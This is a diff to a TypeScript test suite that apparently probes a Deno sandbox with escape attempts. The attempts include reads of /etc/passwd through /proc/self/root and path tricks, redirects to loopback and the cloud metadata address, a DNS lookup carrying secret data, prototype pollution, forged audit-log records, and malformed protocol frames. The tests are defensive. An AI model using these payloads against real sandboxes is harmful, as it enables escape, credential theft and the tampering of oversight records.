@@ -1,3 +1,5 @@
+import { readFileSync } from "node:fs";
+import { hostname } from "node:os";
 import process from "node:process";
 
 /*
@@ -8,9 +10,18 @@ import process from "node:process";
 export interface Attempt {
   readonly name: string;
   readonly code: string;
-  /** Hosts that the task was granted. */
+  /** Hosts that the task was granted; REDIRECTOR stands for the port of a server that sends its visitors elsewhere. */
   readonly net?: readonly string[];
 }
+
+/** Attempts that come to nothing before they ask for anything, so that there is nothing to be written down. */
+export const unseen: readonly string[] = [
+  "read /etc/passwd: static import as bytes",
+  "read /etc/passwd: dynamic import as bytes",
+  "power: npm import",
+  "power: ask for permissions",
+  "pollution: native bindings",
+];
 
 /** Each tries to get at /etc/passwd; what it gets is the task's result. */
 const readings: Readonly<Record<string, string>> = {
@@ -45,6 +56,11 @@ const readings: Readonly<Record<string, string>> = {
     worker.onerror = (event) => { event.preventDefault(); fail(new Error(event.message)) };
     worker.onmessage = (event) => done(event.data) })`,
   "import through import.meta.resolve": `export const main = async () => (await import(import.meta.resolve("file:///etc/passwd"), { with: { type: "text" } })).default`,
+  "the root of a process": `export const main = () => Deno.readTextFileSync("/proc/self/root/etc/passwd")`,
+  "a path with links and dots": `export const main = () => Deno.readTextFileSync("/tmp/../proc/self/cwd/../../../../etc/passwd")`,
+  "a link to it": `export const main = () => Deno.readLinkSync("/proc/self/root")`,
+  "its real path": `export const main = () => Deno.realPathSync("/proc/self/root/etc/passwd")`,
+  "a hard link": `import { linkSync } from "node:fs"; export const main = () => { linkSync("/etc/passwd", "/tmp/musketeers-hard"); return "linked" }`,
   symlink: `export const main = () => { Deno.symlinkSync("/etc/passwd", "/tmp/musketeers-link"); return "linked" }`,
 };
 
@@ -84,6 +100,14 @@ function fetching(url: string): string {
   return `export const main = async (port) => (await fetch(${JSON.stringify(url)}.replace("PORT", port))).text()`;
 }
 
+function hosts(): string {
+  try {
+    return readFileSync("/etc/hosts", "utf8");
+  } catch {
+    return "";
+  }
+}
+
 /** Each tries to reach the server on loopback, or another address that is not public, under the grants that it is given. */
 const connections: readonly Attempt[] = [
   { name: "fetch without a grant", code: fetching("http://127.0.0.1:PORT/") },
@@ -111,6 +135,29 @@ const connections: readonly Attempt[] = [
     name: "fetch of the machine's metadata",
     net: ["*"],
     code: fetching("http://169.254.169.254/latest/meta-data/"),
+  },
+  ...["127.0.0.1:PORT", "localhost:PORT", "[::1]:PORT", "127.0.0.2:PORT", "10.0.0.1", "169.254.169.254"].map(
+    (to) => ({
+      name: `a redirect from a granted host to ${to}`,
+      net: ["127.0.0.1:REDIRECTOR"],
+      code: fetching(`http://127.0.0.1:REDIRECTOR/${to}`),
+    }),
+  ),
+  // Which name that is differs; where the machine's own is not in its list there is none to try.
+  ...(hosts().includes(hostname()) ? [hostname()] : []).map((name) => ({
+    name: "a granted name that leads to this machine",
+    net: [name],
+    code: `export const main = async (port) => { await Deno.connect({ hostname: "${name}", port }); return "connected" }`,
+  })),
+  {
+    name: "a question to a name server",
+    net: ["example.org"],
+    code: `export const main = async () => Deno.resolveDns("secret.in.a.name.example.org", "TXT")`,
+  },
+  {
+    name: "a question through node:dns",
+    net: ["example.org"],
+    code: `import dns from "node:dns/promises"; export const main = () => dns.resolve4("secret.in.a.name.example.org")`,
   },
   {
     name: "a socket to loopback",
@@ -199,6 +246,29 @@ const pollutions: Readonly<Record<string, string>> = {
     const own = outer.Deno ?? globalThis.Deno;
     return own.readTextFileSync("/etc/passwd") }`,
   "native bindings": `import process from "node:process"; export const main = () => process.binding("fs").internalModuleReadJSON("/etc/passwd")`,
+  "patched promises": `export const main = async () => {
+    const then = Promise.prototype.then;
+    Promise.prototype.then = function (...args) { globalThis.got ??= []; globalThis.got.push(this); return then.apply(this, args) };
+    await null;
+    return Deno.readTextFileSync("/etc/passwd") }`,
+  "patched collections": `export const main = () => {
+    for (const type of [Map, Set, Array, Uint8Array]) for (const name of Object.getOwnPropertyNames(type.prototype)) {
+      const own = Object.getOwnPropertyDescriptor(type.prototype, name);
+      if (typeof own.value !== "function" || name === "constructor") continue;
+      const before = own.value;
+      type.prototype[name] = function (...args) { globalThis.host ??= this; return before.apply(this, args) };
+    }
+    return Deno.readTextFileSync("/etc/passwd") }`,
+  "patched JSON and functions": `export const main = () => {
+    JSON.parse = () => ({ permission: "none" }); JSON.stringify = () => "";
+    Function.prototype.call = function () { return "root" }; Array.prototype[Symbol.iterator] = function* () {};
+    return Deno.readTextFileSync("/etc/passwd") }`,
+  "a hidden denial": `export const main = () => {
+    try { Deno.readTextFileSync("/etc/passwd") } catch { throw new Error("nothing was denied") } }`,
+  "the record of denials": `import { writeSync } from "node:fs"; export const main = () => {
+    for (const path of ["/sandbox/audit", "/dev/fd/3", "/proc/self/fd/3"]) try { Deno.writeTextFileSync(path, "x"); return path } catch {}
+    for (let fd = 3; fd < 40; fd++) try { writeSync(fd, '{"v":1,"permission":"net","value":"forged"}\\n') } catch {}
+    return Deno.readTextFileSync("/etc/passwd") }`,
   "modules of WASI": `import { WASI } from "node:wasi"; export const main = () => {
     new WASI({ version: "preview1", preopens: { "/": "/" } }); return "opened" }`,
 };
@@ -224,6 +294,32 @@ const exhaustions: Readonly<Record<string, string>> = {
   "a flood of output": `export const main = () => { const junk = new Uint8Array(1 << 20); for (;;) Deno.stdout.writeSync(junk) }`,
 };
 
+/** A frame of the sandbox's own protocol, as a task may write it: its length, its kind, its payload. */
+const frame = (kind: number, bytes: string, length = "payload.length + 1"): string =>
+  `export const main = () => {
+    const payload = new Uint8Array(${bytes});
+    const frame = new Uint8Array(5 + payload.length);
+    new DataView(frame.buffer).setUint32(0, ${length}, true);
+    frame[4] = ${kind};
+    frame.set(payload, 5);
+    Deno.stdout.writeSync(frame);
+    for (;;); }`;
+
+/** Each speaks in the name of its sandbox; the agent must end it, and believe nothing. */
+const frames: Readonly<Record<string, string>> = {
+  "more results than there are records": frame(17, "[9,0,0,0, 0,0,0,0,0,0,0,0, 0, 0,0,0,0, 0,0,0,0]"),
+  "results that do not fit their count": frame(17, "[1,0,0,0, 0,0,0,0,0,0,0,0, 0, 0,0,0,0, 3,1]"),
+  "empty results": frame(17, "[0,0,0,0, 0,0,0,0,0,0,0,0, 0, 0,0,0,0]"),
+  "results that are cut off": frame(17, "[1,0]"),
+  "failures beyond the records": frame(17, "[1,0,0,0, 0,0,0,0,0,0,0,0, 0, 200,0,0,0, 1,1]"),
+  "a frame of 4 GB": frame(17, "[1]", "0xffffffff"),
+  "a frame of no length": frame(17, "[]", "0"),
+  "a frame of the agent's kind": frame(2, "[1,0,0,0,0,1,1]"),
+  "a frame of an unknown kind": frame(99, "[1,2,3]"),
+  "a piece of a record that never ends": frame(20, "[255,255,255,255,255,255,255,127, 1,2,3]"),
+  "a state that is a reference": frame(19, "[0xd8, 42, 0x40]"),
+};
+
 const named = (group: string, codes: Readonly<Record<string, string>>): Attempt[] =>
   Object.entries(codes).map(([name, code]) => ({ name: `${group}: ${name}`, code }));
 
@@ -232,5 +328,6 @@ export const attempts: readonly Attempt[] = [
   ...named("power", powers),
   ...named("pollution", pollutions),
   ...named("exhaustion", exhaustions),
+  ...named("frame", frames),
   ...connections.map((attempt) => ({ ...attempt, name: `network: ${attempt.name}` })),
 ];
